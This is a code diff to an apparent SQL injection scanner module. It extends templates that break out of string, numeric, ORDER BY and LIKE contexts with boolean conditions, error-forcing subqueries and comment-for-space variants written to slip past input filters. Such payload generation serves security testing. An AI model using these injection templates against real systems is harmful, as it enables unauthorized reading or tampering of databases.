@@ -2,16 +2,21 @@
 
 Each context closes what the statement has open, adds a condition, and opens it again, so that the rest of the
 statement stays as it was written (no comment, which would cut off more than we know). `{v}` is the original
-value, `{n}` a fresh number that stands for a value nobody has, and `{c}` the condition. The forms follow the SQL grammar (ISO/IEC 9075-2, search condition, character
-string literal, sort specification).
+value, `{n}` a fresh number that stands for a value nobody has, `{c}` the condition, `{f}` a number that is NULL when the
+condition fails, `{s}` the empty text or NULL likewise, and `{e}` a number whose reckoning fails in every system. The
+forms follow the SQL grammar (ISO/IEC 9075-2: search condition, character string literal, sort specification, NULLIF).
+
+`{f}` and `{s}` need neither blanks nor words that filters look for; `{e}` tells where a statement shows no row: an
+INSERT, an UPDATE, a sort direction. Its condition decides whether the statement fails, and nothing else changes.
 """
 
 from collections.abc import Callable, Iterator
 
 from msgspec import Struct
+from msgspec.structs import replace
 
 from cyberai.checkkit.differential import Hypothesis
-from cyberai.checkkit.payloads import broken_condition, condition
+from cyberai.checkkit.payloads import broken_condition, condition, null_number, null_text
 from cyberai.checkkit.probe import Probe
 
 
@@ -23,6 +28,7 @@ class SqlContext(Struct, frozen=True):
     template: str
     needs: Callable[[str], bool]
     keeps: bool = True
+    blank: str = " "
 
 
 def _any(_: str) -> bool:
@@ -46,24 +52,39 @@ def _identifier(value: str) -> bool:
     )
 
 
-def _direction(value: str) -> bool:
-    return value.lower() in ("asc", "desc")
-
+# Two rows where one value must stand fail in most systems, the absolute value of the least integer in SQLite.
+_FAILURE = "(SELECT abs(-9223372036854775807-1) UNION SELECT 2)"
 
 # A final `LIKE` meets both a bare closing quote and a trailing wildcard: 'x' LIKE 'x' and 'x' LIKE 'x%'.
 AND_CONTEXTS = (
     SqlContext("numeric", "{v} AND {c}", _number),
     SqlContext("single-quoted string", "{v}' AND {c} AND 'x' LIKE 'x", _any),
     SqlContext("LIKE pattern", "{v}%' AND {c} AND 'x' LIKE 'x", _any),
-    SqlContext("numeric in parentheses", "{v}) AND {c} AND (1=1", _number),
     SqlContext("string in parentheses", "{v}') AND {c} AND ('x' LIKE 'x", _any),
     SqlContext("double-quoted string", '{v}" AND {c} AND "x" LIKE "x', _any),
-    SqlContext("numeric expression", "(CASE WHEN {c} THEN {v} ELSE NULL END)", _number),
+    SqlContext("numeric expression", "({v}+0*{f})", _number),
+    SqlContext("number of a statement that shows no row", "(CASE WHEN {c} THEN {v} ELSE {e} END)", _number),
     SqlContext("ORDER BY column", "(CASE WHEN {c} THEN {v} ELSE NULL END)", _identifier),
+    SqlContext("ORDER BY list or direction", "{v},(SELECT CASE WHEN {c} THEN 1 ELSE {e} END)", _identifier),
+    SqlContext("joined string", "{v}'||{s}||'", _any),
+    SqlContext("single-quoted string without words", "{v}'&&{f}&&'x'LIKE'x", _text),
     SqlContext(
-        "ORDER BY list", "{v},(SELECT CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)", _identifier
+        "string of a statement that shows no row",
+        "{v}'||(SELECT CASE WHEN {c} THEN '' ELSE CAST({e} AS CHAR) END)||'",
+        _any,
+    ),
+    SqlContext(
+        "compared string of a statement that shows no row",
+        "{v}'LIKE(SELECT CASE WHEN {c} THEN '' ELSE {e} END)LIKE'",
+        _any,
     ),
 )
+
+
+def without_blanks(contexts: tuple[SqlContext, ...]) -> tuple[SqlContext, ...]:
+    """The same for a place that takes no blanks and no double quotes, such as a cookie: comments stand for blanks."""
+    return tuple(replace(context, blank="/**/") for context in contexts if '"' not in context.template)
+
 
 # OR reaches every row, and a comment cuts off conditions (of an UPDATE: all of them). Only where the statement
 # can be trusted to read: a safe method, or a log-in form.
@@ -89,7 +110,8 @@ LOGIN_CONTEXTS = (
 
 SYNTAX = (
     "AND OR LIKE x 1 2 CASE WHEN THEN ELSE NULL END LIMIT SELECT UNION BETWEEN BETVEEM 99999 0 - -- and or like "
-    "case when then else null end limit select union between betveem"
+    "case when then else null end limit select union between betveem NULLIF NULLIP nullif nullip abs CAST AS CHAR "
+    "9223372036854775807"
 )
 """Words of the payloads, which are no features of a page."""
 
@@ -110,20 +132,24 @@ class Break(Struct, frozen=True):
     repairs: tuple[Repair, ...]
 
 
-def syntax_break(value: str, fresh: str, number: int) -> Break:
-    """Break every literal: quotes of both kinds, a backslash before the closing quote, a stray parenthesis.
+def syntax_break(value: str, fresh: str, number: int, *, bare: bool = False) -> Break:
+    """Break every literal: quotes of both kinds, a backslash before the closing quote, a stray parenthesis; `bare`
+    where only a single quote can be sent.
 
     Each repair differs from its counterpart by doubled characters, or by an operand or a parenthesis that is
     missing, so a filter, a failed cast or a page that dislikes quotes answers both alike.
     """
-    broken = f"{value}{fresh})'\"\\"
-    repairs = [
-        Repair("single-quoted string", f"{value}{fresh})''\"\\\\", broken),
-        Repair("double-quoted string", f'{value}{fresh})\'""\\\\', broken),
-    ]
+    broken = f"{value}{fresh}'" if bare else f"{value}{fresh})'\"\\"
+    if bare:
+        repairs = [Repair("single-quoted string", f"{value}{fresh}''", broken)]
+    else:
+        repairs = [
+            Repair("single-quoted string", f"{value}{fresh})''\"\\\\", broken),
+            Repair("double-quoted string", f'{value}{fresh})\'""\\\\', broken),
+        ]
     if _number(value):
         repairs.insert(0, Repair("numeric", f"{value}-{number}+{number}", f"{value}-{number}+"))
-    if _identifier(value):
+    if _identifier(value) and not bare:
         repairs.append(Repair("identifier", f"{value},(SELECT {number})", f"{value},(SELECT {number}"))
     return Break(broken, tuple(repairs))
 
@@ -134,20 +160,23 @@ def hypotheses(probe: Probe, value: str, contexts: tuple[SqlContext, ...]) -> It
         if context.needs(value):
             yield Hypothesis(
                 context.name,
-                _values(probe, context, value, condition),
-                _values(probe, context, value, broken_condition),
+                _values(probe, context, value, sound=True),
+                _values(probe, context, value, sound=False),
                 context.keeps,
             )
 
 
-def _values(
-    probe: Probe, context: SqlContext, value: str, make: Callable[[Probe, bool, int], str]
-) -> Callable[[bool, int], str]:
+def _values(probe: Probe, context: SqlContext, value: str, *, sound: bool) -> Callable[[bool, int], str]:
+    make = condition if sound else broken_condition
+
     def build(holds: bool, round_: int) -> str:
-        return (
+        text = (
             context.template.replace("{c}", make(probe, holds, round_))
+            .replace("{f}", null_number(probe, holds, sound=sound))
+            .replace("{s}", null_text(probe, holds, sound=sound))
+            .replace("{e}", _FAILURE)
             .replace("{n}", str(probe.number(10_000_000, 99_999_999)))
-            .replace("{v}", value)
         )
+        return text.replace(" ", context.blank).replace("{v}", value)
 
     return build
